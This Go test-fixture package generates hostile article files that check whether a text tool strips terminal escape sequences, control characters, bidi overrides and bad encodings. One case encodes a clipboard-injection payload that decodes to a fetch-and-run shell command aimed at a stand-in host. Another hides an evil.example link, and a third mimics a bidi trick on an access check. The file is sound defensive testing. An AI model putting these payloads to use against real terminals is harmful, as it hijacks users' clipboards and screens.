// Package hostile builds parallax's corpus of hostile inputs: articles that
// try to drive the terminal (window title, OSC 52 clipboard, clear screen,
// bare carriage returns, unterminated sequences), controls of every class,
// bidi overrides, NUL bytes, every line-ending style, tabs, wide and
// composed text, and files of the wrong size and shape. Each case says what
// must survive and what must not, so the engine, the views and the
// end-to-end tests can all check the same promises.
//
// Files whose bytes are unprintable or large are made here, not committed;
// the readable ones are also kept under testdata/hostile at the top of the
// module (TestCommitted keeps the two in step).
package hostile

import (
	"bytes"
	"fmt"
	"math/rand/v2"
	"os"
	"path/filepath"
	"strings"
	"unicode/utf16"
)

// Case is one hostile input.
type Case struct {
	Name     string   // file name (a directory name when Dir)
	Class    string   // what it attacks: "escape", "control", "bidi", "newline", "width", "size", "shape", "encoding"
	Data     []byte   // file contents, unless Size or Dir
	Size     int64    // when > 0: a sparse file of this many bytes stands in for Data
	Dir      bool     // an empty directory rather than a file
	Fail     string   // "" when it must load; else why it must be refused: "binary", "encoding", "empty", "too-large", "no-articles"
	Keep     []string // text that must appear in the cleaned passages, each within one passage, in this order
	Never    []string // strings no passage may contain (the live bytes of the attack)
	Same     string   // cases sharing a non-empty Same must give identical passages (text, kind, line)
	Readable bool     // printable and small: also committed under testdata/hostile
}

// filler is ordinary prose to pad cases, so that a few hostile bytes sit in
// a realistic article (and it is not taken for a binary file).
const filler = "Officials said the investigation was continuing and that more details would be released in the coming days, according to a statement published on Monday."

// para returns a paragraph: filler, then s, then filler.
func para(s string) string { return filler + " " + s + " " + filler }

// Cases returns every hostile case, in a fixed order. Data of generated
// cases is built anew on each call, so callers may modify it.
func Cases() []Case {
	return []Case{
		{
			Name: "window-title.txt", Class: "escape",
			Data:  []byte(para("Before the title\x1b]0;PWNED-TITLE\x07 between \x1b]2;PWNED-TWO\x1b\\after the title.") + "\n"),
			Keep:  []string{"Before the title between after the title."},
			Never: []string{"\x1b", "PWNED"},
		},
		{
			Name: "osc52-clipboard.txt", Class: "escape",
			Data:  []byte(para("Copy nothing\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUvcyB8IHNo\x07 from here.") + "\n"),
			Keep:  []string{"Copy nothing from here."},
			Never: []string{"\x1b", "52;", "Y3VybC"},
		},
		{
			Name: "osc8-hyperlink.txt", Class: "escape",
			Data:  []byte(para("Read \x1b]8;;https://evil.example/x\x1b\\the report\x1b]8;;\x1b\\ now.") + "\n"),
			Keep:  []string{"Read the report now."},
			Never: []string{"\x1b", "evil.example"},
		},
		{
			Name: "clear-screen.txt", Class: "escape",
			Data:  []byte("\x1b[2J\x1b[3J\x1b[H\x1bc" + para("Colour \x1b[31;1mred\x1b[0m and \x1b[38;2;255;0;0mtrue\x1b[m, cursor\x1b[10;10H moved\x1b7\x1b8, charset\x1b(0 x\x1b(B.") + "\n"),
			Keep:  []string{"Colour red and true, cursor moved, charset x."},
			Never: []string{"\x1b", "[2J", "[31"},
		},
		{
			Name: "carriage-return.txt", Class: "escape",
			Data: []byte(para("The minister denied it.") + "\rFAKE: the minister confirmed everything.\n"),
			Keep: []string{"The minister denied it.", "FAKE: the minister confirmed everything."},
			// A bare CR ends a line, so the second sentence is a passage of its own on line 2.
			Never: []string{"\r"},
		},
		{
			Name: "unterminated.txt", Class: "escape",
			Data: []byte(para("Open \x1b]0;no terminator and the text after it stays") + "\n" +
				para("A broken \x1b[12;34\nhalf") + "\n" + "Last line \x1bP\x1b["),
			Keep:  []string{"Open ^[]0;no terminator and the text after it stays", "A broken ^[[12;34", "half", "Last line ^[P^[["},
			Never: []string{"\x1b"},
		},
		{
			Name: "string-sequences.txt", Class: "escape",
			Data:  []byte(para("DCS\x1bPq#0;2;0;0;0\x1b\\ APC\x1b_Gf=100;AAAA\x1b\\ PM\x1b^private\x1b\\ SOS\x1bXstart\x1b\\ C1\u009b31m CSI\u009d0;c1title\u009c OSC\u0090dcs\u009c done.") + "\n"),
			Keep:  []string{"DCS APC PM SOS C1 CSI OSC done."},
			Never: []string{"\x1b", "\u009b", "\u009d", "\u0090", "\u009c", "c1title", "AAAA"},
		},
		{
			Name: "c0-controls.txt", Class: "control",
			Data:  []byte(para(c0Line()) + "\n"),
			Keep:  []string{"nul^@ soh^A bel^G bs^H vt^K ff^L so^N si^O can^X sub^Z fs^\\ gs^] rs^^ us^_ end"},
			Never: c0Bytes(),
		},
		{
			Name: "c1-del.txt", Class: "control",
			Data:  []byte(para("del\x7f nel\u0085 ind\u0084 ssa\u0086 pad\u0080 st\u009c end") + "\n"),
			Keep:  []string{"del^? nel<U+0085> ind<U+0084> ssa<U+0086> pad<U+0080> st<U+009C> end"},
			Never: []string{"\x7f", "\u0085", "\u0084", "\u0080", "\u009c"},
		},
		{
			Name: "bidi.txt", Class: "bidi",
			Data: []byte(para("access = \"user\u202e \u2066// admin\u2069 \u2066\" // check\u202c and \u202aembed\u202b\u202d\u2067\u2068 end") + "\n"),
			Keep: []string{"\"user<U+202E> <U+2066>// admin<U+2069> <U+2066>\" // check<U+202C> and <U+202A>embed<U+202B><U+202D><U+2067><U+2068> end"},
			Never: []string{"\u202a", "\u202b", "\u202c", "\u202d", "\u202e",
				"\u2066", "\u2067", "\u2068", "\u2069"},
		},
		{
			Name: "nul-middle.txt", Class: "control",
			Data:  []byte(para("Before the NUL\x00after the NUL survives.") + "\n\n" + para("And the next paragraph too.") + "\n"),
			Keep:  []string{"Before the NUL^@after the NUL survives.", "And the next paragraph too."},
			Never: []string{"\x00"},
		},
		{Name: "newlines-lf.txt", Class: "newline", Data: []byte(newlines("\n")), Same: "newlines", Readable: true,
			Keep: []string{"First paragraph", "Second paragraph", "Third paragraph"}},
		{Name: "newlines-crlf.txt", Class: "newline", Data: []byte(newlines("\r\n")), Same: "newlines",
			Keep: []string{"First paragraph", "Second paragraph", "Third paragraph"}, Never: []string{"\r"}},
		{Name: "newlines-cr.txt", Class: "newline", Data: []byte(newlines("\r")), Same: "newlines",
			Keep: []string{"First paragraph", "Second paragraph", "Third paragraph"}, Never: []string{"\r"}},
		{Name: "newlines-mixed.txt", Class: "newline", Data: []byte(mixedNewlines()), Same: "newlines",
			Keep: []string{"First paragraph", "Second paragraph", "Third paragraph"}, Never: []string{"\r"}},
		{
			Name: "tabs.txt", Class: "width", Readable: true,
			Data:  []byte("\tIndented by a tab, the paragraph starts here.\n\nName:\tValue\tand\tmore.\n"),
			Keep:  []string{"Indented by a tab, the paragraph starts here.", "Name:   Value   and more."},
			Never: []string{"\t"},
		},
		{
			Name: "wide-cjk.txt", Class: "width", Readable: true,
			Data: []byte("莫斯科郊外的音乐厅遭到袭击，造成一百四十多人死亡。调查仍在进行中。\n\n東京の記者によると、当局は警告を受けていたという。\n\n서울에서도 이 사건에 대한 보도가 이어졌다.\n"),
			Keep: []string{"莫斯科郊外的音乐厅遭到袭击，造成一百四十多人死亡。", "東京の記者によると", "서울에서도"},
		},
		{
			Name: "emoji.txt", Class: "width", Readable: true,
			Data: []byte("Family 👨\u200d👩\u200d👧\u200d👦, thumbs 👍🏽 👍🏿, flags 🇺🇦 🇷🇺 🏴\U000E0067\U000E0062\U000E0073\U000E0063\U000E0074\U000E007F, keycap 1\ufe0f\u20e3, rainbow 🏳\ufe0f\u200d🌈, heart ❤\ufe0f, text ☺\ufe0e, all kept in the passage.\n"),
			Keep: []string{"👨\u200d👩\u200d👧\u200d👦", "👍🏽 👍🏿", "🇺🇦 🇷🇺", "🏴\U000E0067\U000E0062\U000E0073\U000E0063\U000E0074\U000E007F", "1\ufe0f\u20e3", "🏳\ufe0f\u200d🌈", "❤\ufe0f", "☺\ufe0e"},
		},
		{
			Name: "combining-stack.txt", Class: "width", Readable: true,
			Data:  []byte("Accents stay: café, naïve, Ångström, tiếng Việt, e\u0301\u0302.\n\nZalgo is capped: Z" + strings.Repeat("\u0336\u0301", 40) + "end.\n"),
			Keep:  []string{"café, naïve, Ångström, tiếng Việt, e\u0301\u0302.", "Z" + strings.Repeat("\u0336\u0301", 4) + "end."},
			Never: []string{"Z" + strings.Repeat("\u0336\u0301", 5)},
		},
		{
			Name: "zero-width.txt", Class: "width", Readable: true,
			Data: []byte("Zero\u200bwidth space, non\u200cjoiner, joiner\u200d, word\u2060joiner, no\ufeffbreak, soft\u00adhyphen, all kept.\n"),
			Keep: []string{"Zero\u200bwidth", "non\u200cjoiner", "joiner\u200d", "word\u2060joiner", "no\ufeffbreak", "soft\u00adhyphen"},
		},
		{Name: "empty.txt", Class: "shape", Data: []byte{}, Fail: "empty", Readable: true},
		{Name: "whitespace-only.txt", Class: "shape", Data: []byte("  \n\t\n   \r\n\u00a0\u3000\n"), Fail: "empty"},
		{Name: "escapes-only.txt", Class: "shape", Data: []byte("\x1b[2J\x1b]0;title\x07\n\x1b[H\n"), Fail: "empty"},
		{
			Name: "long-line-1mb.txt", Class: "size",
			Data: longLine(1 << 20),
			Keep: []string{"abcdefghij"},
		},
		{Name: "binary.txt", Class: "shape", Data: binaryData(), Fail: "binary"},
		{Name: "notes.pdf", Class: "shape", Data: []byte("%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog >>\nendobj\n"), Fail: "binary"},
		{Name: "empty-dir", Class: "shape", Dir: true, Fail: "no-articles"},
		{Name: "huge-50mb.txt", Class: "size", Size: 50 << 20, Fail: "too-large"},
		{
			Name: "utf16le-bom.txt", Class: "encoding",
			Data: utf16Bytes("Decoded from UTF-16LE: Kyiv, Київ, 北京.\r\n\r\nSecond paragraph.\r\n", false),
			Keep: []string{"Decoded from UTF-16LE: Kyiv, Київ, 北京.", "Second paragraph."},
		},
		{
			Name: "utf16be-bom.txt", Class: "encoding",
			Data: utf16Bytes("Decoded from UTF-16BE: Kyiv, Київ, 北京.\n\nSecond paragraph.\n", true),
			Keep: []string{"Decoded from UTF-16BE: Kyiv, Київ, 北京.", "Second paragraph."},
		},
		{
			Name: "utf8-bom.txt", Class: "encoding",
			Data:  []byte("\ufeffA file that opens with a byte order mark.\n"),
			Keep:  []string{"A file that opens with a byte order mark."},
			Never: []string{"\ufeffA"},
		},
		{
			Name: "invalid-utf8.txt", Class: "encoding",
			Data:  []byte(para("Broken \xff\xfe bytes and a cut rune \xe2\x80 and a raw CSI \x9b31m stay visible.") + "\n"),
			Keep:  []string{"Broken \ufffd\ufffd bytes and a cut rune \ufffd\ufffd and a raw CSI \ufffd31m stay visible."},
			Never: []string{"\xff", "\x9b"},
		},
		{Name: "cp1251.txt", Class: "encoding", Data: cp1251(), Fail: "encoding"},
	}
}

// c0Line names each C0 control (but tab, LF, CR and ESC, which have their
// own cases) before the control itself.
func c0Line() string {
	names := []struct {
		name string
		c    byte
	}{{"nul", 0}, {"soh", 1}, {"bel", 7}, {"bs", 8}, {"vt", 11}, {"ff", 12}, {"so", 14}, {"si", 15},
		{"can", 24}, {"sub", 26}, {"fs", 28}, {"gs", 29}, {"rs", 30}, {"us", 31}}
	var b strings.Builder
	for _, n := range names {
		b.WriteString(n.name)
		b.WriteByte(n.c)
		b.WriteByte(' ')
	}
	b.WriteString("end")
	return b.String()
}

func c0Bytes() []string {
	var out []string
	for c := byte(0); c < 0x20; c++ {
		if c != '\n' {
			out = append(out, string([]byte{c}))
		}
	}
	return out
}

// newlines is a small article with the given line ending, for the cases
// that must all give the same passages.
func newlines(eol string) string {
	lines := []string{
		"WORLD NEWS", "",
		"First paragraph of the article, which ends here.", "",
		"Second paragraph, one line.", "",
		"Third paragraph, the last one.",
	}
	return strings.Join(lines, eol) + eol
}

// mixedNewlines is newlines with every line ending style at once.
func mixedNewlines() string {
	eols := []string{"\r\n", "\n", "\r", "\r", "\n", "\r\n", "\r"} // never a CR before an LF of its own
	parts := strings.Split(newlines("\n"), "\n")
	var b strings.Builder
	for i, p := range parts[:len(parts)-1] {
		b.WriteString(p)
		b.WriteString(eols[i%len(eols)])
	}
	return b.String()
}

// longLine is n bytes of letters with no space and no newline.
func longLine(n int) []byte {
	b := bytes.Repeat([]byte("abcdefghij"), n/10+1)
	return b[:n]
}

// binaryData looks like an executable: an ELF header, then random bytes.
func binaryData() []byte {
	r := rand.New(rand.NewPCG(1, 2))
	b := []byte("\x7fELF\x02\x01\x01\x00\x00\x00\x00\x00\x00\x00\x00\x00")
	for range 4096 {
		b = append(b, byte(r.IntN(256)))
	}
	return b
}

// utf16Bytes encodes s as UTF-16 with a BOM.
func utf16Bytes(s string, bigEndian bool) []byte {
	units := append([]uint16{0xFEFF}, utf16.Encode([]rune(s))...)
	out := make([]byte, 0, 2*len(units))
	for _, u := range units {
		if bigEndian {
			out = append(out, byte(u>>8), byte(u))
		} else {
			out = append(out, byte(u), byte(u>>8))
		}
	}
	return out
}

// cp1251 is Russian text in the Windows-1251 encoding: valid text, but not
// UTF-8, and nearly every letter an invalid byte.
func cp1251() []byte {
	var out []byte
	for _, r := range strings.Repeat("Москва заявила, что расследование продолжается. ", 20) {
		switch {
		case r >= 'А' && r <= 'я':
			out = append(out, byte(r-'А'+0xC0))
		case r < 0x80:
			out = append(out, byte(r))
		}
	}
	return out
}

// Write writes every case into dir (which must exist): files under their
// names, the directories empty, the Size cases as sparse files.
func Write(dir string) error {
	for _, c := range Cases() {
		if err := writeCase(dir, c); err != nil {
			return err
		}
	}
	return nil
}

func writeCase(dir string, c Case) error {
	path := filepath.Join(dir, c.Name)
	switch {
	case c.Dir:
		return os.MkdirAll(path, 0o755)
	case c.Size > 0:
		f, err := os.Create(path)
		if err != nil {
			return err
		}
		if err := f.Truncate(c.Size); err != nil {
			f.Close()
			return err
		}
		return f.Close()
	}
	return os.WriteFile(path, c.Data, 0o644)
}

// WriteMany writes n small, distinct articles named article-0001.txt … into
// dir, for the many-files case.
func WriteMany(dir string, n int) error {
	for i := 1; i <= n; i++ {
		text := fmt.Sprintf("ARTICLE %d\n\nReport number %d says the event happened on day %d.\n\n%s\n", i, i, i%28+1, filler)
		if err := os.WriteFile(filepath.Join(dir, fmt.Sprintf("article-%04d.txt", i)), []byte(text), 0o644); err != nil {
			return err
		}
	}
	return nil
}
